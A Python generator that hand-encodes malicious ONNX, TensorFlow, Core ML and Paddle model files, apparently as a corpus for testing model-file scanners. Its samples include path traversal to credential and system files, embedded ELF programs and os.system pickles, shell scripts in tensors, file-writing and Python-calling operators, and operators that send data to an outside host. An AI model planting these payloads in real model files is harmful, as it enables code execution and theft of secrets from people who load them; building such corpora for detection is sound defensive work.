"""Models made of protocol buffers: ONNX, TensorFlow, Core ML, Paddle. Written field by field, no library is needed."""

import json
import struct

from malicious_files import elf
from malicious_ops import HOST, NOWHERE, SHELL, URL, dump, system

GRPC = f"grpc://{HOST}:1"


def varint(number):
    number &= (1 << 64) - 1
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out) + bytes([number])


def field(number, value):
    """One field: a number, or a text, message or list of messages with their length."""
    if isinstance(value, (list, tuple)):
        return b"".join(field(number, one) for one in value)
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    if isinstance(value, str):
        value = value.encode()
    return varint(number << 3 | 2) + varint(len(value)) + value


def message(fields):
    """A message from pairs of number and value."""
    return b"".join(field(number, value) for number, value in fields)


# ONNX


def onnx_tensor(name="w", dims=(4,), kind=1, raw=None, external=None, place=True, more=b""):
    out = [(1, list(dims)), (2, kind), (8, name)]
    if raw is not None:
        out.append((9, raw))
    if external is not None:
        out += [(13, message([(1, key), (2, value)])) for key, value in external]
        if place:
            out.append((14, 1))
    return message(out) + more


def onnx_attribute(name, *fields):
    return message([(1, name), *fields])


def onnx_node(kind="Relu", domain=None, attributes=(), more=b""):
    out = [(1, "x"), (2, "y"), (4, kind), (5, list(attributes))]
    if domain is not None:
        out.append((7, domain))
    return message(out) + more


def onnx_graph(nodes=None, tensors=(), more=b""):
    return message([(1, list(nodes or [onnx_node()])), (2, "graph"), (5, list(tensors))]) + more


def onnx(graph=None, domains=(), more=b"", first=b""):
    opsets = [message([(1, ""), (2, 17)])] + [message([(1, domain), (2, 1)]) for domain in domains]
    return first + message([(1, 8), (2, "pytorch"), (3, "2.4.0"), (7, graph or onnx_graph()), (8, opsets)]) + more


WEIGHTS = struct.pack("<4f", 0.25, -0.5, 1.0, 2.0)


def external(*pairs):
    return onnx(onnx_graph(tensors=[onnx_tensor(external=pairs)]))


def onnx_samples(corpus):
    def add(slug, data, technique, **more):
        corpus.add("onnx", "onnx-" + slug, "model.onnx", data, technique, **more)

    outside = [
        ("parent", "../../../../etc/hostname", "CVE-2024-27318", "climbs out of the folder"),
        ("parent-inside", "weights/../../../etc/hostname", None, "climbs from a folder of the model"),
        ("absolute", "/proc/self/environ", "CVE-2022-25882", "absolute path to the environment of the process"),
        ("backslash", "..\\..\\Windows\\win.ini", None, "climbs with backslashes"),
        ("mixed-slash", "weights\\..\\../..\\secret", None, "climbs with both kinds of slash"),
        ("drive", "C:\\Users\\Public\\secret.bin", None, "drive letter"),
        ("share", "\\\\" + HOST + "\\share\\w.bin", None, "share of another machine: sends the user's hash"),
        ("url", URL, None, "address instead of a file"),
        ("zero-byte", "weights.bin\0/../../etc/hostname", None, "zero byte cuts the name for readers in C"),
        ("home", "~/.ssh/id_ed25519", None, "home folder"),
        ("leading-space", " /etc/hostname", None, "space before an absolute path"),
        ("percent", "%2e%2e/%2e%2e/etc/hostname", None, "escaped dots"),
        ("file-scheme", "file:/etc/hostname", None, "scheme without slashes"),
        ("config", "config.json", None, "settings of the model read as a tensor"),
        ("dotfile", ".git/config", None, "hidden folder beside the model"),
        ("own-file", "model.onnx", None, "tensor inside the model file itself"),
        ("other-model", "encoder.onnx", None, "tensor inside another model"),
        ("memory-address", "*/_ORT_MEM_ADDR_/*", None, "tag by which the runtime means its own memory"),
    ]
    for slug, location, advisory, technique in outside:
        add("external-" + slug, external(("location", location), ("offset", "0"), ("length", "16")), technique, advisory=advisory)
    add("external-negative-offset", external(("location", "w.bin"), ("offset", "-4096"), ("length", "16")), "offset before the file")
    add("external-overflow", external(("location", "w.bin"), ("offset", "9223372036854775800"), ("length", "16")),
        "offset and length overflow together")
    add("external-length-lies", external(("location", "w.bin"), ("offset", "0"), ("length", "1048576")), "length longer than the tensor")
    add("external-not-a-number", external(("location", "w.bin"), ("offset", "0x10"), ("length", "16")), "offset that readers parse differently")
    add("external-attribute", external(("location", "w.bin"), ("basepath", "/etc")), "key that sets an attribute of the reader",
        advisory="CVE-2026-34445")
    add("external-dunder", external(("location", "w.bin"), ("__class__", "x")), "key that replaces the reader's class")
    add("external-two-locations", external(("location", "w.bin"), ("location", "w2.bin"), ("length", "16")), "two locations, readers differ")
    add("external-unmarked", onnx(onnx_graph(tensors=[onnx_tensor(external=[("location", "../w")], place=False)])),
        "reference without the mark that the data is outside")
    deep = onnx_attribute("then_branch", (6, onnx_graph([onnx_node("Constant", attributes=[
        onnx_attribute("value", (5, onnx_tensor(external=[("location", "../../secret")])))])])))
    add("external-in-branch", onnx(onnx_graph([onnx_node("If", attributes=[deep])])), "reference in a constant of a branch")
    sparse = field(15, message([(1, onnx_tensor(external=[("location", "/etc/hostname")])), (2, onnx_tensor("i", kind=7, raw=b"\0" * 32))]))
    add("external-in-sparse", onnx(onnx_graph(more=sparse)), "reference in a sparse tensor")
    body = onnx_node("Constant", attributes=[onnx_attribute("value", (5, onnx_tensor(external=[("location", "../x")])))])
    function = field(25, message([(1, "f"), (7, body), (10, "local")]))
    add("external-in-function", onnx(onnx_graph([onnx_node("f", "local")]), more=function), "reference in the body of a function")
    training = field(20, message([(2, onnx_graph(tensors=[onnx_tensor(external=[("location", "../x")])]))]))
    add("external-in-training", onnx(more=training), "reference in the graph for training")
    add("external-behind-unknown-fields", onnx(onnx_graph(tensors=[onnx_tensor(external=[("location", "../x")])]), first=field(999, "a") * 50),
        "unknown fields before the version")
    add("external-graph-twice", onnx() + field(7, onnx_graph(tensors=[onnx_tensor(external=[("location", "../x")])])),
        "second graph, which readers merge into the first")
    numbers = struct.pack("<16f", *(0.25 + number for number in range(16)))
    beside = [onnx_tensor(name, (size,), 2, external=[("location", "model.onnx.data"), ("offset", str(at)), ("length", str(size))])
              for name, at, size in (("a", 0, len(numbers)), ("b", len(numbers), len(elf())))]
    corpus.add("onnx", "onnx-external-data-program", "model.onnx.data", numbers + elf(), "program as a tensor of the file beside the model",
        files={"model.onnx": onnx(onnx_graph(tensors=beside))})
    evil = dump(system())
    whole = onnx_tensor("a", (len(evil),), 2, external=[("location", "weights.bin"), ("length", str(len(evil)))])
    corpus.add("onnx", "onnx-external-data-pickle", "weights.bin", evil, "pickle that a model describes as numbers",
        files={"model.onnx": onnx(onnx_graph(tensors=[whole]))})
    add("operator-python", onnx(onnx_graph([onnx_node("PyOp", attributes=[onnx_attribute("module", (4, "os")), onnx_attribute("class_name", (4, "system"))])])),
        "operator of the language bridge")
    add("operator-python-training", onnx(onnx_graph([onnx_node("PythonOp", "com.microsoft", [onnx_attribute("func_name", (4, "os.system"))])]),
        ["com.microsoft"]), "operator that calls a Python class by name")
    add("operator-aten", onnx(onnx_graph([onnx_node("ATen", "org.pytorch.aten", [onnx_attribute("operator", (4, "from_file"))])]),
        ["org.pytorch.aten"]), "operator that calls any function of PyTorch")
    add("operator-python-late-domain", onnx(onnx_graph([onnx_node("PyCustomOp", "ai.onnx.contrib")]), ["ai.onnx.contrib"]), "Python operator of the extensions")
    add("operator-network", onnx(onnx_graph([onnx_node("AzureTextToText", "com.microsoft.extensions", [onnx_attribute("model_uri", (4, URL))])]),
        ["com.microsoft.extensions"]), "operator that sends its input to another machine")
    add("operator-context-outside", onnx(onnx_graph([onnx_node("EPContext", "com.microsoft", [
        onnx_attribute("embed_mode", (3, 0)), onnx_attribute("ep_cache_context", (4, "../../engine.bin"))])]), ["com.microsoft"]),
        "compiled program in a file outside the folder")
    add("operator-twice", onnx(onnx_graph([message([(4, "PyOp"), (4, "Relu")])])), "two operators in one node, the last one harmless")
    nested = onnx_node("PyOp")
    for _ in range(20):
        nested = onnx_node("Loop", attributes=[onnx_attribute("body", (6, onnx_graph([nested])))])
    add("operator-deep", onnx(onnx_graph([nested])), "Python operator twenty loops deep")
    add("image-reader", onnx(onnx_graph([onnx_node("ImageReader", "ai.onnx.contrib")]), ["ai.onnx.contrib"]), "operator that opens files by name")
    add("tensor-overflow", onnx(onnx_graph(tensors=[onnx_tensor(dims=[1 << 31] * 4, raw=WEIGHTS)])), "shape whose size overflows")
    add("tensor-negative", onnx(onnx_graph(tensors=[onnx_tensor(dims=[-1], raw=WEIGHTS)])), "negative dimension")
    add("tensor-short", onnx(onnx_graph(tensors=[onnx_tensor(dims=[100000], raw=WEIGHTS)])), "fewer bytes than the shape asks for")
    add("tensor-bomb", onnx(onnx_graph(tensors=[onnx_tensor(dims=[1 << 40])])), "terabytes declared, no bytes held")
    add("tensor-dimensions", onnx(onnx_graph(tensors=[onnx_tensor(dims=[1] * 5000, raw=b"\0" * 4)])), "thousands of dimensions")
    add("tensor-program", onnx(onnx_graph(tensors=[onnx_tensor(dims=[len(elf())], kind=2, raw=elf())])), "program in a tensor")
    pickled = dump(system()).ljust(128, b"\0")
    add("tensor-pickle", onnx(onnx_graph(tensors=[onnx_tensor(dims=[len(pickled)], kind=2, raw=pickled)])), "pickle in a tensor")
    add("tensor-script", onnx(onnx_graph(tensors=[onnx_tensor(dims=[128], kind=2, raw=(b"#!/bin/sh\n" + SHELL.encode() + b"\n").ljust(128, b"\n"))])),
        "script in a tensor")
    add("hidden-field", onnx(more=field(77, elf())), "program in a field that ONNX does not have")


# TensorFlow


def tf_text(*texts, packed=False):
    if packed:
        return message([(1, 7), (2, message([(2, message([(1, len(texts))]))])), (4, b"".join(varint(len(one)) for one in texts) + "".join(texts).encode())])
    return message([(1, 7), (2, b""), (8, list(texts))])


def tf_attr(name, value):
    return field(5, message([(1, name), (2, value)]))


def tf_node(name, kind, inputs=(), *attributes):
    return message([(1, name), (2, kind), (3, list(inputs))]) + b"".join(attributes)


def tf_const(name, *texts, packed=False):
    return tf_node(name, "Const", (), tf_attr("value", field(8, tf_text(*texts, packed=packed))), tf_attr("dtype", field(6, 7)))


def tf_graph(*nodes, functions=()):
    library = field(2, message([(1, list(functions))])) if functions else b""
    return field(1, list(nodes)) + library + field(4, message([(1, 1882)]))


def tf_function(name, arguments, nodes, returns=()):
    signature = message([(1, name), (2, [message([(1, one), (3, 7)]) for one in arguments])])
    return message([(1, signature), (3, list(nodes)), (4, [message([(1, "out"), (2, one)]) for one in returns])])


def saved_model(graph, more=b""):
    info = message([(4, "serve"), (5, "2.21.0")])
    return message([(1, 1), (2, message([(1, info), (2, graph)]) + more)])


def tensorflow_samples(corpus):
    def add(slug, graph, technique, more=b"", **record):
        corpus.add("tensorflow", "tf-" + slug, "saved_model.pb", saved_model(graph, more), technique, **record)

    def frozen(slug, graph, technique, **record):
        corpus.add("tensorflow", "tf-" + slug, "frozen.pb", graph, technique, **record)

    path, text = tf_const("path", NOWHERE), tf_const("text", SHELL)
    add("write-file", tf_graph(path, text, tf_node("w", "WriteFile", ["path", "text"])), "writes a file")
    frozen("write-file-frozen", tf_graph(path, text, tf_node("w", "WriteFile", ["path", "text"])), "writes a file, frozen graph")
    corpus.add("tensorflow", "tf-write-file-meta", "model.meta", message([(1, message([(5, "1.15.0")])), (2, tf_graph(path, text, tf_node("w", "WriteFile", ["path", "text"])))]),
               "writes a file, graph of a checkpoint")
    add("read-file", tf_graph(path, tf_node("r", "ReadFile", ["path"])), "reads a fixed file")
    add("read-packed", tf_graph(tf_const("path", "/etc/hostname", packed=True), tf_node("r", "ReadFile", ["path"])), "path packed as bytes")
    add("read-joined", tf_graph(tf_const("a", "/et"), tf_const("b", "c/hostname"), tf_node("j", "StringJoin", ["a", "b"]), tf_node("r", "ReadFile", ["j:0"])),
        "path joined from pieces")
    add("read-decoded", tf_graph(tf_const("a", "L2V0Yy9ob3N0bmFtZQ"), tf_node("d", "DecodeBase64", ["a"]), tf_node("r", "ReadFile", ["d"])), "path decoded from base64")
    numbers = tf_node("n", "Const", (), tf_attr("value", field(8, message([(1, 3), (2, message([(2, message([(1, 3)]))])), (4, struct.pack("<3i", 47, 101, 116))]))))
    add("read-from-numbers", tf_graph(numbers, tf_node("u", "UnicodeEncode", ["n"]), tf_node("r", "ReadFile", ["u"])), "path made from numbers")
    call = tf_node("c", "StatefulPartitionedCall", ["path"], tf_attr("f", field(10, message([(1, "helper")]))))
    add("read-through-call", tf_graph(path, call, functions=[tf_function("helper", ["name"], [tf_node("r", "ReadFile", ["name"])])]), "path handed to a function")
    give = tf_function("give", [], [tf_const("p", "/etc/hostname")], ["p:output:0"])
    add("read-from-return", tf_graph(tf_node("c", "PartitionedCall", (), tf_attr("f", field(10, message([(1, "give")])))), tf_node("r", "ReadFile", ["c"]), functions=[give]),
        "path returned by a function")
    add("write-in-function", tf_graph(tf_node("x", "Placeholder"), functions=[tf_function("__inference_call_1", ["x"], [path, text, tf_node("w", "WriteFile", ["path:output:0", "text:output:0"])])]),
        "writes a file inside the serving function")
    add("matching-files", tf_graph(tf_const("p", "/home/*/.ssh/*"), tf_node("m", "MatchingFiles", ["p"])), "lists files")
    add("text-dataset", tf_graph(tf_const("p", "/etc/hostname"), tf_node("d", "TextLineDataset", ["p"])), "reads lines of a file")
    add("sql-dataset", tf_graph(tf_const("d", "sqlite"), tf_const("p", "/var/lib/x.db"), tf_const("q", "select 1"), tf_node("s", "SqlDataset", ["d", "p", "q"])), "runs a query")
    add("table-from-file", tf_graph(tf_node("t", "HashTableV2"), tf_const("p", "/etc/hostname"), tf_node("i", "InitializeTableFromTextFileV2", ["t", "p"])), "vocabulary from a fixed file")
    add("reader-queue", tf_graph(tf_const("p", "/etc/hostname"), tf_node("q", "FIFOQueueV2"), tf_node("e", "QueueEnqueueV2", ["q", "p"]), tf_node("r", "WholeFileReaderV2"), tf_node("v", "ReaderReadV2", ["r", "q"])),
        "file named through a queue")
    add("immutable-const", tf_graph(tf_node("i", "ImmutableConst", (), tf_attr("memory_region_name", field(2, "/etc/hostname")))), "file mapped into memory as a tensor")
    add("vocabulary-attribute", tf_graph(tf_node("s", "FixedUnigramCandidateSampler", (), tf_attr("vocab_file", field(2, "/etc/hostname")))), "file named in an attribute of a sampler")
    add("descriptor-source", tf_graph(tf_node("d", "DecodeProtoV2", (), tf_attr("descriptor_source", field(2, "/etc/hostname")))), "file named as a source of descriptors")
    add("record-input", tf_graph(tf_node("d", "RecordInput", (), tf_attr("file_pattern", field(2, "/data/*")))), "files named in an attribute")
    add("dump-tensor", tf_graph(tf_node("d", "DumpTensor", ["x"], tf_attr("log_dir_path", field(2, NOWHERE)), tf_attr("file_name", field(2, "x")))), "writes a tensor to a file")
    add("calibration", tf_graph(tf_node("d", "CalibrationStatisticsSaver", ["x"], tf_attr("output_file_path", field(2, NOWHERE)))), "writes statistics to a file")
    add("print-file", tf_graph(tf_const("p", SHELL), tf_node("d", "PrintV2", ["p"], tf_attr("output_stream", field(2, "file://" + NOWHERE)))), "prints into a file")
    add("save-dataset", tf_graph(tf_const("p", NOWHERE), tf_node("d", "SaveDatasetV2", ["x", "p"])), "writes a data set")
    add("dataset-to-record", tf_graph(tf_const("p", NOWHERE), tf_const("c", ""), tf_node("d", "DatasetToTFRecord", ["x", "p", "c"])), "writes a data set as records")
    add("cache-dataset", tf_graph(tf_const("p", NOWHERE), tf_node("d", "CacheDataset", ["x", "p"])), "caches into a file")
    add("summary-writer", tf_graph(tf_const("p", NOWHERE), tf_node("w", "SummaryWriter"), tf_node("d", "CreateSummaryFileWriter", ["w", "p", "q", "f", "s"])), "opens an event file")
    add("summary-db", tf_graph(tf_const("p", NOWHERE), tf_node("w", "SummaryWriter"), tf_node("d", "CreateSummaryDbWriter", ["w", "p", "a", "b", "c"])), "opens a database")
    add("save-checkpoint", tf_graph(tf_const("p", NOWHERE), tf_node("d", "SaveV2", ["p", "n", "s", "t"])), "writes a checkpoint to a fixed path")
    add("merge-checkpoints", tf_graph(tf_const("a", "x"), tf_const("p", NOWHERE), tf_node("d", "MergeV2Checkpoints", ["a", "p"])), "moves files to a fixed path")
    add("py-func", tf_graph(tf_node("p", "PyFunc", ["x"], tf_attr("token", field(2, "pyfunc_0")))), "calls a Python function")
    add("eager-py-func", tf_graph(tf_node("x", "Placeholder"), functions=[tf_function("f", ["x"], [tf_node("p", "EagerPyFunc", ["x"], tf_attr("token", field(2, "pyfunc_0")))])]), "calls a Python function, in a function")
    add("py-func-stateless", tf_graph(tf_node("p", "PyFuncStateless", ["x"])), "calls a Python function that claims to have no state")
    add("debug-grpc", tf_graph(tf_node("d", "DebugIdentityV3", ["x"], tf_attr("debug_urls", field(1, message([(2, [GRPC])]))))), "sends every value away")
    add("debug-file", tf_graph(tf_node("d", "DebugNanCount", ["x"], tf_attr("debug_urls", field(1, message([(2, ["file://" + NOWHERE])]))))), "writes counts to a file")
    add("data-service", tf_graph(tf_const("a", GRPC), tf_node("d", "DataServiceDatasetV4", ["i", "m", "a", "p"])), "data from another machine")
    add("rpc-client", tf_graph(tf_const("a", HOST + ":1"), tf_node("d", "RpcClient", ["a", "t"])), "connects to another machine")
    add("xla-custom-call", tf_graph(tf_node("d", "XlaCustomCallV2", ["x"], tf_attr("call_target_name", field(2, "system")))), "native function by name")
    add("abort", tf_graph(tf_node("d", "Abort", (), tf_attr("error_msg", field(2, "x")))), "ends the process")
    second = message([(1, message([(4, "gpu"), (5, "2.21.0")])), (2, tf_graph(path, text, tf_node("w", "WriteFile", ["path", "text"])))])
    corpus.add("tensorflow", "tf-second-meta-graph", "saved_model.pb", saved_model(tf_graph(tf_node("x", "Placeholder"))) + field(2, second),
               "attack in the second meta graph")
    pbtxt = "saved_model_schema_version: 1\nmeta_graphs {\n  graph_def {\n    node {\n      name: \"w\"\n      op: \"WriteFile\"\n      input: \"p\"\n    }\n  }\n}\n"
    corpus.add("tensorflow", "tf-text-write-file", "saved_model.pbtxt", pbtxt.encode(), "writes a file, graph in text form", textual=True)
    add("asset-climbs", tf_graph(tf_node("x", "Placeholder")), "asset outside the folder", more=field(6, message([(1, message([(1, "x:0")])), (2, "../../../etc/hostname")])))
    big = message([(1, 1), (2, message([(2, message([(1, 1 << 42)]))])), (5, b"\0\0\0\0")])
    add("constant-bomb", tf_graph(tf_node("x", "Const", (), tf_attr("value", field(8, big)))), "constant of terabytes")
    bad = message([(1, 1), (2, message([(2, message([(1, -3)]))])), (4, b"\0\0\0\0")])
    add("constant-negative", tf_graph(tf_node("x", "Const", (), tf_attr("value", field(8, bad)))), "negative dimension")
    short = message([(1, 1), (2, message([(2, message([(1, 300)]))])), (4, b"\0\0\0\0")])
    add("constant-short", tf_graph(tf_node("x", "Const", (), tf_attr("value", field(8, short)))), "fewer bytes than the shape asks for")
    shell = message([(1, 7), (8, dump(system()).ljust(96, b"\0"))])
    add("constant-pickle", tf_graph(tf_node("x", "Const", (), tf_attr("value", field(8, shell)))), "pickle in a text constant")
    layer = json.dumps({"class_name": "Lambda", "config": {"name": "l", "function": ["4wAAAAAA", None, None], "function_type": "lambda"}})
    meta = message([(1, [message([(2, 0), (3, "root"), (4, "_tf_keras_sequential"), (5, "{\"class_name\": \"Sequential\"}")]), message([(2, 1), (3, "root.layer-0"), (4, "_tf_keras_layer"), (5, layer)])])])
    corpus.add("tensorflow", "tf-keras-metadata-lambda", "keras_metadata.pb", meta, "layer that carries bytecode", advisory="CVE-2024-3660",
               files={"saved_model.pb": saved_model(tf_graph(tf_node("x", "Placeholder")))})
    user = message([(4, message([(1, "_tf_keras_layer"), (3, layer)]))])
    add("keras-object-graph-lambda", tf_graph(tf_node("x", "Placeholder")), "layer that carries bytecode, in the object graph", more=field(7, message([(1, user)])))
    two = message([(1, "w"), (2, "WriteFile"), (2, "NoOp"), (3, ["path", "text"])])
    add("operator-twice", tf_graph(path, text, two), "two operators in one node, the last one harmless")
    reordered = tf_attr("value", field(8, tf_text("/etc/hostname"))) + message([(3, "^x"), (2, "Const"), (1, "path")])
    add("reordered-fields", tf_graph(reordered, tf_node("r", "ReadFile", ["path"])), "fields of the node in another order")
    add("legacy-call", tf_graph(path, tf_node("c", "helper", ["path"]), functions=[tf_function("helper", ["name"], [tf_node("r", "ReadFile", ["name"])])]), "function called as an operator")
    lots = tf_const("p", *(["word"] * 500 + ["/etc/hostname"]))
    add("path-among-words", tf_graph(lots, tf_node("d", "TextLineDataset", ["p"])), "path behind 500 words")


# Core ML and Paddle


def coreml(*kinds, version=7):
    return message([(1, version), (2, message([(1, message([(1, "x")]))]))] + list(kinds))


def mil(block):
    return message([(1, 1), (2, message([(1, "main"), (2, message([(2, "CoreML5"), (3, message([(1, "CoreML5"), (2, block)]))]))]))])


def mil_blob(path):
    return message([(1, "const"), (5, message([(1, "val"), (2, message([(5, message([(1, path), (2, 64)]))]))]))])


def paddle(*operators):
    ops = []
    for kind, attributes in (("feed", {}),) + operators:
        ops.append(message([(3, kind), (4, [message([(1, key), (2, 2), (5, value)]) for key, value in attributes.items()])]))
    return message([(1, message([(1, 0), (2, -1), (4, ops)]))])


def other_samples(corpus):
    for slug, path, technique in [
        ("climbs", "@model_path/../../secret.bin", "weights outside the package"), ("absolute", "/etc/hostname", "weights at an absolute path"),
        ("url", URL, "weights at an address"), ("home", "~/Library/Keychains/x", "weights in the home folder")]:
        corpus.add("coreml", "coreml-blob-" + slug, "model.mlmodel", coreml((502, mil(message([(3, mil_blob(path))])))), technique)
    inner = message([(1, "cond"), (4, message([(3, mil_blob("../x"))]))])
    corpus.add("coreml", "coreml-blob-inner-block", "model.mlmodel", coreml((502, mil(message([(3, inner)])))), "weights outside, in an inner block")
    linked = message([(1, message([(1, message([(1, "other.mlmodelc")])), (2, message([(1, "/tmp:/var/tmp")]))]))])
    corpus.add("coreml", "coreml-linked-model", "model.mlmodel", coreml((556, linked)), "linked model looked for in open folders")
    nested = coreml((202, message([(1, [coreml((502, mil(message([(3, mil_blob("../../x"))]))))])])))
    corpus.add("coreml", "coreml-pipeline-blob", "model.mlmodel", nested, "weights outside, in a pipeline")
    for slug, operators, technique in [
        ("py-func", (("py_func", {}),), "calls a Python function"),
        ("save", (("save", {"file_path": NOWHERE}),), "writes a file"),
        ("save-combine", (("save_combine", {"file_path": NOWHERE}),), "writes parameters"),
        ("load-absolute", (("load", {"file_path": "/etc/hostname"}),), "reads a file at an absolute path"),
        ("load-climbs", (("load_combine", {"file_path": "../../x"}),), "reads a file outside"),
        ("read-file", (("read_file", {"filename": "/etc/hostname"}),), "reads a file whole"),
        ("listen", (("listen_and_serv", {"endpoint": HOST + ":1"}),), "listens for other machines"),
        ("send", (("send", {"epmap": HOST + ":1"}),), "sends tensors to another machine"),
    ]:
        corpus.add("paddle", "paddle-" + slug, "inference.pdmodel", paddle(*operators), technique)
    head = b"\0" * 16 + struct.pack("<I", 5) + bytes([8, 20, 16]) + varint(1024)
    corpus.add("paddle", "paddle-parameters-program", "inference.pdiparams", head + elf().ljust(1024, b"\0")[:1024], "program in the parameters")
    pir = {"base_code": {"magic": "pir", "trainable": False, "version": 4}, "program": {"regions": [{"#": "region_0", "blocks": [{"#": "block_0", "args": [], "ops": [
        {"#": "1.py_func", "A": [], "I": [], "O": []}]}]}]}}
    corpus.add("paddle", "paddle-json-py-func", "inference.json", json.dumps(pir, separators=(",", ":")).encode(), "Python function in the newer form", textual=True)


def build(corpus):
    onnx_samples(corpus)
    tensorflow_samples(corpus)
    other_samples(corpus)
